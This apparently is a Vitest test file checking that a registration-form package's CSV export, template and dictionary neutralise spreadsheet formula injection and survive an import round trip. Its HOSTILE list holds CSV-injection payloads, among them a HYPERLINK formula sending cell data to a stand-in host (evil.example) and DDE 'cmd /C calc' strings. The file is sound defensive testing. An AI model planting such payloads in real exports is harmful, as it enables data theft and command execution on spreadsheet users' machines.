/*
 * CSV injection: what leaves the system as CSV (export, template, dictionary) never holds a
 * cell a spreadsheet would run as a formula, and the import reads a neutralised cell back to
 * the value it was, so the export → import round trip still holds.
 */
import { compileDefinitions } from '@regforms/compiler';
import { readDefinitionFiles } from '@regforms/compiler/node';
import { MemoryStore, Registrations } from '@regforms/registrations';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportCsv } from './export.ts';
import { importCsv } from './import.ts';
import { dictionaryCsv, templateCsv } from './template.ts';

const form = compileDefinitions(readDefinitionFiles(`${import.meta.dirname}/../../../tests/fixtures/demo`))
  .forms[0]!;
const clock = { now: () => new Date('2024-06-01T10:00:00Z') };

/** What a spreadsheet runs as a formula (OWASP): a cell starting with one of these. */
const FORMULA = /^[=+\-@\t\r]/;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+32 475 12 34 56',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+two apostrophes",
  "'plain apostrophe",
  'DDE ("cmd";"/C calc";"!A0")A0',
];

describe('formula-like cells', () => {
  it('are neutralised in an export and read back to the same values on import', async () => {
    const store = new MemoryStore();
    const service = new Registrations(store, { clock });
    for (const [i, text] of HOSTILE.entries())
      await service.submit(
        form,
        {
          IDC_PAT: '93051822361',
          DT_PAT_DOB: '1993-05-18',
          DT_HOSPZ: `2024-03-${String(i + 1).padStart(2, '0')}`,
          CD_INDICATN: 'OTHER',
          TX_INDICATN_OTHER: text,
        },
        { send: false },
      );
    const csv = exportCsv(form, await store.list());
    const cells = Papa.parse<string[]>(csv.trim(), { delimiter: ';' }).data.flat();
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
    const column = templateCsvColumns().indexOf('TX_INDICATN_OTHER');
    const rows = Papa.parse<string[]>(csv.trim(), { delimiter: ';' }).data.slice(1);
    expect(rows.map((r) => r[column])).toEqual(HOSTILE.map((h) => (/^'*[=+\-@\t\r]/.test(h) ? `'${h}` : h)));

    const again = new MemoryStore();
    const report = await importCsv(form, csv, { store: again, clock, lang: 'en' });
    expect(report.totals.draft).toBe(HOSTILE.length);
    const back = (await again.list()).map((r) => r.data.TX_INDICATN_OTHER).sort();
    expect(back).toEqual([...HOSTILE].sort());
  });

  it('keep plain negative numbers as numbers', async () => {
    const store = new MemoryStore();
    await new Registrations(store, { clock }).submit(
      form,
      { DT_HOSPZ: '2024-03-01', CD_INDICATN: 'OTHER', TX_INDICATN_OTHER: '-5' },
      { send: false },
    );
    const csv = exportCsv(form, await store.list());
    expect(csv).toContain(';-5;');
    const again = new MemoryStore();
    await importCsv(form, csv, { store: again, clock, lang: 'en' });
    expect((await again.list())[0]!.data.TX_INDICATN_OTHER).toBe('-5');
  });

  it('are neutralised in the dictionary and the template too', () => {
    const hostile = structuredClone(form);
    for (const lang of Object.keys(hostile.i18n))
      hostile.i18n[lang]!['CD_INDICATN.label'] = '=cmd|" /C calc"!A0';
    const cells = Papa.parse<string[]>(dictionaryCsv(hostile, 'en').trim(), { delimiter: ';' }).data.flat();
    expect(cells).toContain('\'=cmd|" /C calc"!A0');
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
    expect(Papa.parse<string[]>(templateCsv(form).trim(), { delimiter: ';' }).data[0]).toContain('STATUS');
  });
});

function templateCsvColumns(): string[] {
  return templateCsv(form).trim().split(';');
}
